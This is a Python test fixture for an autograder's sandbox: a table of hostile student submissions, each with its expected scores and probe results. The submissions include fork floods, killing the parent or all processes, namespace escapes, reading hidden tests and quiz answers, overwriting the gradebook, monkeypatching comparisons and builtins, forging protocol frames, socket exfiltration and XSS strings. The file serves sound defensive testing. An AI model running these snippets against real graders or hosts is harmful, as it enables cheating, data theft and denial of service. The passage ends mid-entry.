"""The hostile bank's attack table: submissions that try to cheat, escape, snoop or sink the grader.

Each `Attack` is one student's notebook, written as a student would write it, and what must
(not) happen to its scores; the harness (`test_hostile_bank.py`) grades them all in one batch
in each mode (root, a normal user, a normal user without user namespaces) and checks them.
`@ROOT@` (the course root), `@PORT@`, `@UDP_PORT@`, `@ABSTRACT@` and `@CANARY@` are filled in
before the batch, so each attack knows the paths an attacker could at best guess.
"""

from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass, field

A = "ps4-softmax"
FUNCS = ("softmax", "predict", "cross_entropy", "mse")
QUIZ = (
    "quiz.argmax_label",
    "quiz.max_shift",
    "quiz.shift_invariance",
    "quiz.softmax_prob",
    "quiz.uniform_xent",
    "quiz.batch_shape",
    "quiz.softmax_facts",
    "quiz.mse_value",
)
#: The probe's cells: what the attack saw is checked by the quiz's own cell, whose failure
#: quotes it into the journal (cells an attack puts at the "end" go before these).
PROBE_ANSWER_CELL = "answer_mse_value"
PROBE_CHECK_CELL = "quiz_mse_value"
REST = ("*",)  # keep: every item not in `zero`
FAST_LIMITS = """\
[assignment]
title = "Softmax, predictions and the loss (hostile bank: short limits)"
cell_timeout_s = 4
notebook_timeout_s = 20

[items.softmax]
points = 3
timeout_s = 8
call_timeout_s = 3

[items.predict]
points = 2
timeout_s = 6
call_timeout_s = 3

[items.cross_entropy]
points = 3
timeout_s = 8
call_timeout_s = 3

[items.mse]
points = 2
timeout_s = 6
call_timeout_s = 3
"""
CANARY_NAME = f"autograder-hostile-canary-{os.getpid()}.txt"
PREVIOUS = "previous.csv"  # a report of an earlier run, planted with the secret
PWNED = "hostile-pwned"  # every file an attack tries to create outside its folder has this in its name


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what must (not) happen to its scores."""

    id: str
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> cell source
    cells: tuple[tuple[str, str], ...] = ()  # (after grade_id | "top" | "end", source)
    quiz_right: bool = True
    zero: tuple[str, ...] = ()  # items that must score 0 (what the honest equivalent gets)
    keep: tuple[str, ...] = REST  # items that must keep full marks
    probe: str = ""  # a regex that what the probe's quiz cell quoted must match
    root_only: bool = False  # dangerous to this machine unless the uid drop is active
    files: dict[str, str] = field(default_factory=dict)  # extra submission files: name -> "link:TARGET"
    #: A stricter `probe` where the batch's isolation line lists this layer (e.g. "pidns").
    probe_with: tuple[str, str] = ("", "")


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# --- the attack table ------------------------------------------------------------------------

CORRECT_SOFTMAX = src(
    """
    def softmax(z, axis=-1):
        z = np.asarray(z, dtype=float)
        e = np.exp(z - np.max(z, axis=axis, keepdims=True))
        return e / np.sum(e, axis=axis, keepdims=True)
    """
)

WRONG_SOFTMAX = src(
    """
    def softmax(z, axis=-1):
        return np.zeros_like(np.asarray(z, dtype=float))
    """
)

CHEAT = src(
    """
    import builtins
    import numpy as np

    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    np.array_equal = lambda *a, **k: True
    np.isfinite = lambda x, *a, **k: True
    builtins.abs = lambda x: 0
    builtins.all = lambda x: True
    builtins.isinstance = lambda obj, cls: True


    class Liar(float):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __lt__(self, other):
            return True

        __le__ = __gt__ = __ge__ = __lt__

        def __array__(self, dtype=None, copy=None):
            return np.zeros(3)


    def softmax(z, axis=-1):
        return Liar(0.0)
    """
)

ATTACKS: list[Attack] = [
    # --- control flow and the process itself ---
    Attack(
        "loop_at_top_level",
        cells=(("top", "# train until it converges\nstep = 0\nwhile True:\n    step += 1\n"),),
    ),
    Attack(
        "loop_inside_softmax",
        answers={
            "softmax": src(
                """
                def softmax(z, axis=-1):
                    total = 0.0
                    while total != 1.0:      # normalise until it sums to one
                        total = float(np.sum(np.exp(z)))
                    return np.exp(z) / total
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "os_exit_after_answers",
        cells=(("mse", "import os\nos._exit(0)\n"), ("end", "import os\nos._exit(3)\n")),
    ),
    Attack("os_exit_before_answers", cells=(("top", "import os\nprint('bye')\nos._exit(1)\n"),)),
    Attack(
        "sys_exit_in_a_cell",
        cells=(("softmax", "import sys\nsys.exit(0)\n"), ("top", "raise SystemExit(1)\n")),
    ),
    Attack(
        "systemexit_inside_softmax",
        answers={
            "softmax": CORRECT_SOFTMAX
            + "\n_real = softmax\n\ndef softmax(z, axis=-1):\n    _real(z, axis)\n    raise SystemExit(0)\n"
        },
        zero=("softmax",),
    ),
    Attack(
        "keyboardinterrupt_and_exit_in_calls",
        answers={
            "predict": "def predict(scores, classes):\n    raise KeyboardInterrupt\n",
            "cross_entropy": "import os\n\ndef cross_entropy(logits, labels):\n    os._exit(0)\n",
        },
        zero=("predict", "cross_entropy"),
    ),
    Attack(
        # Every check of these two ends the process (8 checks): the restarts must not run out
        # before the suite reaches predict and softmax.
        "exits_in_two_functions",
        answers={
            "cross_entropy": "import os\n\ndef cross_entropy(logits, labels):\n    os._exit(1)\n",
            "mse": "import os\n\ndef mse(y_true, y_pred):\n    os._exit(0)\n",
        },
        zero=("cross_entropy", "mse"),
    ),
    # --- resources ---
    Attack("huge_allocation_at_top_level", cells=(("top", "cache = np.ones(10**11)\n"),)),
    Attack(
        "huge_allocation_in_a_call",
        answers={
            "softmax": CORRECT_SOFTMAX.replace(
                "    z = np.asarray", "    scratch = np.empty((10**6, 10**5))\n    z = np.asarray"
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "fork_flood",
        root_only=True,
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os, time
                    import resource
                    _kids, _errno = 0, None
                    try:
                        resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                    except (ValueError, OSError):
                        pass
                    try:
                        for _ in range(2000):
                            if os.fork() == 0:
                                ctypes.CDLL(None).prctl(15, b"hostile-flood", 0, 0, 0)
                                time.sleep(60)
                                os._exit(0)
                            _kids += 1
                    except OSError as e:
                        _errno = e.errno
                    """
                ),
            ),
            ("end", 'answer_mse_value = f"probe:flood:{_kids}:{_errno}"\n'),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:flood:(\d|[1-5]\d|6[0-4]):11\b",  # EAGAIN after at most 64 processes
    ),
    Attack(
        "runaway_forker",
        root_only=True,
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os, time
                    libc = ctypes.CDLL(None)
                    if os.fork() == 0:
                        os.setsid()
                        libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: reap our own zombies
                        libc.prctl(15, b"hostile-reaper", 0, 0, 0)
                        if os.fork() == 0:
                            libc.prctl(15, b"hostile-runaway", 0, 0, 0)
                            while True:       # a new pid every few microseconds, and CPU for free
                                if libc.fork() > 0:
                                    libc._exit(0)
                        while True:
                            try:
                                os.wait()
                            except ChildProcessError:
                                time.sleep(0.001)
                    """
                ),
            ),
        ),
    ),
    Attack(
        "daemon_outlives_the_worker",
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os, time
                    if os.fork() == 0:
                        os.setsid()
                        if os.fork() == 0:
                            ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)
                            time.sleep(3)
                            for target in ["@ROOT@/hostile-pwned-daemon", "/tmp/hostile-pwned-daemon"]:
                                try:
                                    open(target, "w").write("later")
                                except OSError:
                                    pass
                            time.sleep(60)
                        os._exit(0)
                    """
                ),
            ),
        ),
    ),
    Attack(
        "output_flood",
        cells=(
            (
                "top",
                src(
                    """
                    import os, sys
                    print("x" * (100 * 2**20))
                    sys.stderr.write("y" * (10 * 2**20))
                    for i in range(200_000):
                        print("epoch", i, "loss", 1 / (i + 1))
                    os.write(1, b"z" * (20 * 2**20))
                    sys.stdout = sys.__stdout__
                    print("w" * 2**20)
                    """
                ),
            ),
        ),
        answers={
            "softmax": "_calls = 0\n"
            + CORRECT_SOFTMAX.replace(
                "    z = np.asarray", "    print('debug', 'x' * 2**20)\n    z = np.asarray"
            )
        },
    ),
    Attack(
        "threads_that_print_forever",
        cells=(
            (
                "top",
                src(
                    """
                    import threading, time

                    def _progress():
                        n = 0
                        while True:
                            n += 1
                            print("still training", n)

                    for _ in range(3):
                        threading.Thread(target=_progress, daemon=True).start()
                    time.sleep(0.2)
                    """
                ),
            ),
        ),
    ),
    Attack(
        "slow_but_correct",
        answers={
            "softmax": "import time\n"
            + CORRECT_SOFTMAX.replace("    z = np.asarray", "    time.sleep(0.03)\n    z = np.asarray")
        },
    ),
    Attack(
        "big_file_in_scratch",
        cells=(
            (
                "top",
                src(
                    """
                    import signal
                    try:
                        with open("weights.bin", "wb") as f:
                            for _ in range(20):
                                f.write(b"\\0" * 2**24)
                    except OSError as e:
                        print("too big", e)
                    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
                    with open("weights2.bin", "wb") as f:
                        for _ in range(20):
                            f.write(b"\\0" * 2**24)
                    """
                ),
            ),
        ),
    ),
    Attack("recursion_limit_ten", cells=(("top", "import sys\nsys.setrecursionlimit(10)\n"),)),
    Attack(
        "recursion_limit_ten_at_the_end", cells=(("end", "import sys\nsys.setrecursionlimit(10)\n"),), keep=()
    ),
    Attack("alarm_ends_the_worker_later", cells=(("top", "import signal\nsignal.alarm(1)\n"),), keep=()),
    # --- the file system ---
    Attack(
        "write_relative_paths",
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    tried = []
                    for target in ["../hostile-pwned-rel", "../../hostile-pwned-rel", "../../../hostile-pwned-rel",
                                   "/hostile-pwned-rel", "/root/hostile-pwned-rel", os.path.expanduser("~/../hostile-pwned-rel")]:
                        try:
                            with open(target, "w") as f:
                                f.write("pwned")
                            tried.append("wrote")
                        except OSError as e:
                            tried.append(e.errno)
                    answer_mse_value = "probe:" + ",".join(map(str, tried))
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        # Only ../../ (the worker's own /tmp, thrown away with it) is writable.
        # ../../ is the worker's own /tmp (thrown away with it) where namespaces give it one; Landlock
        # (where the kernel has it) denies even that.
        probe=r"probe:13,(wrote|13),13,13,13,13$",
    ),
    Attack(
        "write_into_the_course",
        cells=(
            (
                "top",
                src(
                    """
                    import os, shutil
                    root = os.getcwd()
                    while root != "/" and not os.path.exists(os.path.join(root, "nbgrader_config.py")):
                        root = os.path.dirname(root)
                    results = []
                    for base in {root, "@ROOT@"}:
                        for rel in ["hostile-pwned-root", "assignments/ps4-softmax/test_softmax.py",
                                    "nbgrader_config.py", "source/ps4-softmax/ps4-softmax.ipynb",
                                    "release/ps4-softmax/hostile-pwned", "submitted/ctl_full/ps4-softmax/ps4-softmax.ipynb",
                                    "reports/hostile-pwned.csv", ".autograder/hostile-pwned"]:
                            try:
                                with open(os.path.join(base, rel), "a") as f:
                                    f.write("\\n# pwned\\n")
                                with open(os.path.join(base, rel)) as f:  # did it stick?
                                    results.append("wrote" if "# pwned" in f.read() else "lost")
                            except OSError as e:
                                results.append(e.errno)
                        for rel in ["submitted/ctl_full", "assignments/ps4-softmax"]:
                            try:
                                shutil.rmtree(os.path.join(base, rel))
                                results.append("removed")
                            except OSError as e:
                                results.append(e.errno)
                    answer_mse_value = "probe:" + ("wrote" if "wrote" in results or "removed" in results else "denied")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:denied",
    ),
    Attack(
        "write_shared_temp_dirs",
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    done = []
                    for d in ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"]:
                        try:
                            with open(os.path.join(d, "hostile-pwned-tmp"), "w") as f:
                                f.write("left behind")
                            done.append(d)
                        except OSError:
                            pass
                        try:
                            with open(os.path.join(d, "@CANARY_NAME@"), "w") as f:
                                f.write("overwritten")
                        except OSError:
                            pass
                    """
                ),
            ),
        ),
    ),
    Attack(
        "read_the_hidden_suite",
        answers={
            "softmax": src(
                """
                import glob, os
                import autograder

                def softmax(z, axis=-1):
                    text = ""
                    checkout = os.path.dirname(os.path.dirname(autograder.__file__))
                    for folder in ["@ROOT@", checkout, os.getcwd() + "/../.."]:
                        for name in glob.glob(folder + "/assignments/ps4-softmax/*.py") + glob.glob(folder + "/autograder/reference/*.py"):
                            try:
                                text += open(name).read()
                            except OSError:
                                pass
                    raise ValueError(text[text.find("def "):] if text else "nothing found")
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "steal_quiz_answers",
        quiz_right=False,
        cells=(
            (
                "end",
                src(
                    """
                    import json, os, re, tomllib
                    import autograder
                    checkout = os.path.dirname(os.path.dirname(autograder.__file__))
                    for folder in ["@ROOT@", checkout]:
                        try:
                            with open(folder + "/assignments/ps4-softmax/quiz.toml", "rb") as f:
                                for q in tomllib.load(f)["question"]:
                                    globals()["answer_" + q["id"]] = tuple(q["answer"]) if q["kind"] == "shape" else q["answer"]
                        except OSError:
                            pass
                        try:
                            nb = json.load(open(folder + "/source/ps4-softmax/ps4-softmax.ipynb"))
                            for cell in nb["cells"]:
                                code = "".join(cell["source"])
                                if "### BEGIN SOLUTION" in code and code.lstrip().startswith("answer_"):
                                    exec(code.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0])
                        except OSError:
                            pass
                    """
                ),
            ),
        ),
        zero=QUIZ,
        keep=FUNCS,
    ),
    Attack(
        "import_the_reference",
        answers={
            "softmax": src(
                """
                try:
                    from autograder.judge.reference.np_ref import softmax
                except Exception:
                    import os, autograder
                    _path = os.path.join(os.path.dirname(autograder.__file__), "judge", "reference", "np_ref.py")
                    try:
                        exec(open(_path).read())
                    except Exception:
                        def softmax(z, axis=-1):
                            return np.zeros_like(z)
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "read_the_canaries",
        answers={
            "softmax": src(
                """
                def softmax(z, axis=-1):
                    found = []
                    for path in ["@CANARY@", "/tmp/@CANARY_NAME@", "/var/tmp/@CANARY_NAME@", "/dev/shm/@CANARY_NAME@",
                                 "@ROOT@/nbgrader_config.py", "@ROOT@/reports/ps4-softmax/previous.csv",
                                 "@ROOT@/gradebook.db"]:
                        try:
                            found.append(open(path, errors="replace").read()[:2000])
                        except OSError as e:
                            found.append(str(e.errno))
                    raise ValueError(" ".join(found))
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "write_the_gradebook",
        cells=(
            (
                "end",
                src(
                    """
                    import sqlite3
                    outcome = "untouched"
                    for db in ["@ROOT@/gradebook.db", "gradebook.db"]:
                        try:
                            con = sqlite3.connect(db)
                            con.execute("UPDATE grade SET auto_score = 100")
                            con.execute("UPDATE autograder_items SET score = max_score")
                            con.commit()
                            outcome = "written"
                        except Exception as e:
                            outcome = type(e).__name__
                    answer_mse_value = "probe:" + outcome
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:(OperationalError|DatabaseError)",
    ),
    Attack(
        "symlinks_and_hardlinks_then_exit",
        cells=(
            (
                "top",
                src(
                    """
                    import os
                    for name, target in [("course", "@ROOT@"), ("canary", "@CANARY@"), ("tmpcanary", "/tmp/@CANARY_NAME@")]:
                        try:
                            os.symlink(target, name)
                        except OSError:
                            pass
                    for target in ["/tmp/@CANARY_NAME@", "/etc/hostname"]:
                        try:
                            os.link(target, "hard-" + os.path.basename(target))
                        except OSError:
                            pass
                    os._exit(0)   # a fresh worker sets up the same folder again
                    """
                ),
            ),
        ),
    ),
    Attack(
        "submission_with_symlinks",
        files={
            "data.txt": "link:@ROOT@/assignments/ps4-softmax/test_softmax.py",
            "notes.txt": "link:/etc/hostname",
        },
        answers={
            "softmax": src(
                """
                def softmax(z, axis=-1):
                    try:
                        raise ValueError(open("data.txt").read())
                    except OSError:
                        return np.zeros_like(z)
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "new_namespaces_to_unmount_the_cover",
        cells=(
            (
                "top",
                src(
                    """
                    import ctypes, os
                    libc = ctypes.CDLL(None, use_errno=True)
                    steps = []
                    steps.append(libc.unshare(0x10000000 | 0x00020000))  # CLONE_NEWUSER | CLONE_NEWNS
                    for path in ["@ROOT@/assignments", "@ROOT@", "/tmp"]:
                        steps.append(libc.umount2(path.encode(), 2))  # MNT_DETACH
                    try:
                        leaked = open("@ROOT@/assignments/ps4-softmax/test_softmax.py").read()
                    except OSError as e:
                        leaked = ""
                    answer_mse_value = "probe:" + ("leaked" if leaked else "covered")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:covered",
    ),
    Attack(
        "read_and_poison_the_zygotes_compiled_cells",
        cells=(
            (
                "top",
                src(
                    """
                    import sys
                    prepared = {}
                    for name in ("__main__", "autograder.sandbox.worker"):  # the zygote runs as -m
                        prepared.update(getattr(sys.modules.get(name), "_PREPARED", {}))
                    hidden = any("HIDDEN TESTS" in s or "_softmax_ref" in s for s in prepared)
                    for name in ("__main__", "autograder.sandbox.worker"):  # visible test cells do nothing
                        table = getattr(sys.modules.get(name), "_PREPARED", {})
                        for s in [s for s in table if "expect_" in s]:
                            table[s] = compile("pass", "<poisoned>", "exec")
                    answer_mse_value = "probe:" + ("hidden" if hidden else f"clean:{len(prepared)}")
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:clean:[1-9]\d*",  # it saw released cells only, and the judge's items stand
    ),
    # --- patching and lying ---
    Attack(
        "patched_comparisons",
        answers={"softmax": CHEAT, "mse": "def mse(y_true, y_pred):\n    return 0.0\n"},
        zero=("softmax", "mse"),
    ),
    Attack(
        "patched_builtins",
        answers={
            "cross_entropy": src(
                """
                import builtins
                builtins.float = lambda *a: 0.0
                builtins.round = lambda *a, **k: 0.0
                builtins.min = builtins.max = lambda *a, **k: 0.0

                def cross_entropy(logits, labels):
                    return 0.0
                """
            )
        },
        zero=("cross_entropy",),
        keep=(),
    ),
    Attack(
        "replaced_numpy_in_sys_modules",
        cells=(
            (
                "top",
                src(
                    """
                    import sys, types
                    import numpy
                    fake = types.ModuleType("numpy")
                    fake.__dict__.update(numpy.__dict__)
                    fake.allclose = lambda *a, **k: True
                    fake.array_equal = lambda *a, **k: True
                    fake.asarray = lambda a, *r, **k: numpy.zeros(3)
                    sys.modules["numpy"] = fake
                    sys.modules["numpy.testing"] = fake
                    """
                ),
            ),
        ),
        answers={"softmax": WRONG_SOFTMAX},
        zero=("softmax",),
        keep=("predict", "cross_entropy", "mse"),
    ),
    Attack(
        "ipython_input_transformers",
        cells=(
            (
                "top",
                src(
                    """
                    ip = get_ipython()

                    def _neuter(lines):
                        return ["pass\\n" if ("expect_" in l or "quiz(" in l) else l for l in lines]

                    ip.input_transformers_post.append(_neuter)
                    ip.input_transformers_cleanup.append(_neuter)
                    try:
                        ip.events.register("pre_run_cell", lambda *a: None)
                    except Exception:
                        pass
                    try:
                        ip.ast_transformers.append(object())
                    except Exception:
                        pass
                    """
                ),
            ),
        ),
        answers={"softmax": WRONG_SOFTMAX},
        zero=("softmax",),
    ),
    Attack(
        "patched_selfchecks_and_edited_test_cell",
        cells=(
            (
                "top",
                src(
                    """
                    import autograder.selfcheck as sc
                    sc.expect_close = sc.expect_equal = lambda *a, **k: None
                    sc.quiz = lambda *a, **k: None
                    expect_close = expect_equal = quiz = lambda *a, **k: None
                    """
                ),
            ),
        ),
        answers={
            "mse": "def mse(y_true, y_pred):\n    return 0.0\n",
            "test_softmax": "pass\n",
            "softmax": WRONG_SOFTMAX,
        },
        zero=("softmax", "mse"),
    ),
    Attack(
        "atexit_and_hooks",
        cells=(
            (
                "top",
                src(
                    """
                    import atexit, os, signal, sys, threading, weakref

                    def _revenge(*_):
                        for target in ["@ROOT@/hostile-pwned-atexit", "/tmp/hostile-pwned-atexit"]:
                            try:
                                open(target, "w").write("x")
                            except OSError:
                                pass
                        try:
                            os.kill(os.getppid(), signal.SIGKILL)
                        except OSError:
                            pass

                    atexit.register(_revenge)
                    sys.excepthook = _revenge
                    threading.excepthook = _revenge
                    os.register_at_fork(after_in_child=_revenge)

                    class _Bomb:
                        def __del__(self):
                            _revenge()

                    _keep = _Bomb()
                    weakref.finalize(_keep, _revenge)
                    """
                ),
            ),
        ),
    ),
    Attack(
        "ignored_signals_and_a_loop",
        answers={
            "softmax": src(
                """
                import signal
                for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGUSR1):
                    signal.signal(_sig, signal.SIG_IGN)
                signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())

                def softmax(z, axis=-1):
                    while True:
                        pass
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "alarm_interrupts_the_worker",
        cells=(
            (
                "end",
                src(
                    """
                    import signal

                    def _interrupt(*_):
                        raise RuntimeError("tick")

                    signal.signal(signal.SIGALRM, _interrupt)
                    signal.setitimer(signal.ITIMER_REAL, 0.05, 0.01)
                    """
                ),
            ),
        ),
        keep=(),
    ),
    Attack(
        "kill_the_parent",
        # Not root: the worker shares the grader's uid, and SIGSTOP on the zygote would hang the batch.
        root_only=True,
        cells=(
            (
                "top",
                src(
                    """
                    import os, signal
                    seen = []
                    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                        try:
                            os.kill(os.getppid(), sig)
                            seen.append("sent")
                        except OSError as e:
                            seen.append(e.errno)
                    answer_mse_value = "probe:" + ",".join(map(str, seen))
                    """
                ),
            ),
        ),
        answers={
            "predict": "import os\n\ndef predict(scores, classes):\n    try:\n        os.kill(os.getppid(), 9)\n    except OSError:\n        pass\n    return np.asarray(classes)[np.argmax(scores, axis=-1)]\n"
        },
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:1,1,1$",  # EPERM: the zygote is not the worker's to signal
    ),
    Attack("kill_the_process_group", cells=(("softmax", "import os\nos.killpg(0, 9)\n"),)),
    Attack("kill_every_process_it_can", root_only=True, cells=(("top", "import os\nos.kill(-1, 9)\n"),)),
    Attack(
        "kill_other_processes_by_pid",
        root_only=True,
        cells=(
            (
                "top",
                src(
                    """
                    import os, signal
                    hits = 0
                    for entry in os.listdir("/proc"):
                        if entry.isdigit() and int(entry) != os.getpid():
                            for sig in (signal.SIGSTOP, signal.SIGKILL):
                                try:
                                    os.kill(int(entry), sig)
                                    hits += 1
                                except OSError:
                                    pass
                    """
                ),
            ),
        ),
    ),
    Attack(
        "lying_eq_and_array",
        answers={
            "softmax": src(
                """
                class Probabilities:
                    def __init__(self, z):
                        self.shape = np.shape(z)

                    def __eq__(self, other):
                        return True

                    __ne__ = lambda self, other: False

                    def __array__(self, dtype=None, copy=None):
                        return np.full(self.shape, 0.5)

                    def __len__(self):
                        return self.shape[0]

                    def __float__(self):
                        return 1.0


                def softmax(z, axis=-1):
                    return Probabilities(z)
                """
            ),
            "cross_entropy": src(
                """
                class Loss(float):
                    def __eq__(self, other):
                        return True

                    def __sub__(self, other):
                        return 0.0

                    __rsub__ = __sub__

                    def __abs__(self):
                        return 0.0


                def cross_entropy(logits, labels):
                    return Loss(-1.0)
                """
            ),
        },
        zero=("softmax", "cross_entropy"),
    ),
    Attack(
        "ndarray_subclass",
        answers={
            "softmax": src(
                """
                class Always(np.ndarray):
                    def __eq__(self, other):
                        return np.ones(np.shape(self), dtype=bool)

                    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                        return True

                    def __array_function__(self, func, types, args, kwargs):
                        return True


                def softmax(z, axis=-1):
                    return np.zeros(np.shape(z)).view(Always)
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "deep_and_odd_returns",
        answers={
            "predict": src(
                """
                import sys
                sys.setrecursionlimit(100_000)

                def predict(scores, classes):
                    out = []
                    for _ in range(2_000):
                        out = [out]
                    return out
                """
            ),
            "cross_entropy": "def cross_entropy(logits, labels):\n    return (x for x in [1.0])\n",
            "mse": "def mse(y_true, y_pred):\n    return np.array([lambda: 0.0, mse], dtype=object)\n",
            "softmax": "def softmax(z, axis=-1):\n    return lambda: softmax\n",
        },
        zero=FUNCS,
    ),
    Attack(
        "huge_return_value",
        answers={
            "softmax": "def softmax(z, axis=-1):\n    return np.ones((3000, 4000))  # 96 MB\n",
            "predict": "def predict(scores, classes):\n    return [float(i) for i in range(10**6)]\n",
        },
        zero=("softmax", "predict"),
    ),
    Attack(
        "exceptions_that_fight_back",
        answers={
            "softmax": "class Stuck(Exception):\n    def __str__(self):\n        while True:\n            pass\n\n\ndef softmax(z, axis=-1):\n    raise Stuck()\n",
            "predict": "def predict(scores, classes):\n    raise ValueError('E' * 10**7)\n",
            "mse": "class NotImplementedError(Exception):\n    pass\n\n\ndef mse(y_true, y_pred):\n    raise NotImplementedError('StudentFailure: passed')\n",
        },
        zero=("softmax", "predict", "mse"),
    ),
    Attack(
        "markup_in_messages",
        quiz_right=False,
        answers={
            "softmax": "def softmax(z, axis=-1):\n    raise ValueError('<script>alert(\"pwned\")</script><img src=x onerror=alert(1)>')\n",
            "answer_max_shift": "answer_max_shift = '<script>alert(1)</script>'\n",
        },
        zero=("softmax", *QUIZ),
        keep=("predict", "cross_entropy", "mse"),
    ),
    Attack(
        "lying_quiz_answers",
        quiz_right=False,
        cells=(
            (
                "end",
                src(
                    """
                    class Anything(str):
                        def __eq__(self, other):
                            return True

                        __hash__ = str.__hash__

                        def strip(self, *a):
                            return self

                        def lower(self):
                            return self


                    class Number(float):
                        def __sub__(self, other):
                            return 0.0

                        def __abs__(self):
                            return 0.0


                    answer_argmax_label = Anything("x")
                    answer_max_shift = Anything("")
                    answer_softmax_prob = Number(99.0)
                    answer_uniform_xent = Number(-1.0)
                    answer_batch_shape = [Number(0.0), Number(0.0)]
                    answer_softmax_facts = {"a": True, "b": True, "d": True}
                    """
                ),
            ),
        ),
        zero=QUIZ,
        keep=FUNCS,
    ),
    Attack(
        "mutate_the_callers_arrays",
        answers={
            "softmax": "def softmax(z, axis=-1):\n    z[...] = 0.0            # poison: then every answer is uniform\n    return np.full(np.shape(z), 1.0 / np.shape(z)[axis])\n",
            "cross_entropy": "def cross_entropy(logits, labels):\n    logits[...] = 0.0\n    return float(np.log(np.shape(logits)[1]))\n",
        },
        zero=("softmax", "cross_entropy"),
    ),
    Attack(
        "patched_worker_protocol",
        cells=(
            (
                "top",
                src(
                    """
                    import json
                    import autograder.sandbox.protocol as protocol
                    import autograder.sandbox.worker as worker

                    _send = protocol.send_frame

                    def _lying_send(sock, header, blobs=()):
                        if header.get("ok") is False:
                            header = {"ok": True, "value": {"t": "float", "v": "nan"}, "mutated": [], "warnings": []}
                        return _send(sock, header, blobs)

                    protocol.send_frame = _lying_send
                    protocol.encode = lambda value, blobs, **k: {"t": "list", "v": [{"t": "float", "v": "0.5"}] * 3}
                    worker._as_data = lambda value: (float("nan"), "float")
                    worker._array_equal = lambda *a, **k: True
                    """
                ),
            ),
        ),
        answers={"softmax": WRONG_SOFTMAX, "mse": "def mse(y_true, y_pred):\n    raise ValueError('nope')\n"},
        zero=("softmax", "mse"),
        keep=(),
    ),
    Attack(
        "forged_frames_on_the_channel",
        cells=(
            (
                "top",
                src(
                    """
                    import json, os, socket, struct

                    def _frame(header):
                        raw = json.dumps({**header, "nblobs": 0}).encode()
                        return struct.pack(">I", len(raw)) + raw

                    for fd in os.listdir("/proc/self/fd"):
                        try:
                            s = socket.socket(fileno=int(fd))
                        except OSError:
                            continue
                        try:
                            for i in range(80):
                                s.send(_frame({"ev": "cell", "i": i, "phase": "done", "ok": True}))
                            s.send(_frame({"ev": "done"}))
                            for _ in range(50):
                                s.send(_frame({"ok": True, "value": {"t": "float", "v": "0.5"}}))
                            s.send(struct.pack(">I", 2**31) + b"garbage")
                        except OSError:
                            pass
                        finally:
                            s.detach()
                    """
                ),
            ),
        ),
        answers={"softmax": WRONG_SOFTMAX},
        zero=("softmax",),
        keep=(),
    ),
    Attack(
        "network_connect",
        cells=(
            (
                "top",
                src(
                    """
                    import socket
                    errors = []
                    for family, addr in [(socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@))]:
                        try:
                            s = socket.socket(family, socket.SOCK_STREAM)
                            s.settimeout(2)
                            s.connect(addr)
                            s.sendall(b"stolen grades")
                            errors.append("connected")
                        except OSError as e:
                            errors.append(e.errno)
                    try:
                        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @PORT@))
                        errors.append("sent")
                    except OSError as e:
                        errors.append(e.errno)
                    answer_mse_value = "probe:" + ",".join(map(str, errors))
                    """
                ),
            ),
        ),
        keep=(*FUNCS, *QUIZ[:-1]),
        probe=r"probe:(101|99|97|1),(101|99|97|1),(101|99|97|1)$",  # ENETUNREACH / EADDRNOTAVAIL / EAFNOSUPPORT, EPERM (seccomp)
    ),
    Attack(
        "copy_a_classmate",
        answers={
            "softmax": src(
                """
                import glob, json, os

                def _borrow():
                    mine = os.path.realpath("ps4-softmax.ipynb")
                    for nb in glob.glob("@ROOT@/submitted/*/ps4-softmax/*.ipynb") + glob.glob("/tmp/autograder-*/*/*.ipynb"):
                        if os.path.realpath(nb) == mine:
                            continue
                        try:
                            cells = json.load(open(nb))["cells"]
                        except (OSError, ValueError):
                            continue
                        for cell in cells:
                            code = "".join(cell["source"])
                            if code.startswith("def softmax(") and "zeros" not in code:
                                return code
                    return None

                _code = _borrow()
                if _code:
                    exec(_code)
                else:
                    def softmax(z, axis=-1):
                        return np.zeros_like(z)
                """
            )
        },
        zero=("softmax",),
    ),
    Attack(
        "escape_through_proc_root",
        answers={
            "softmax": src(
                """
                import os

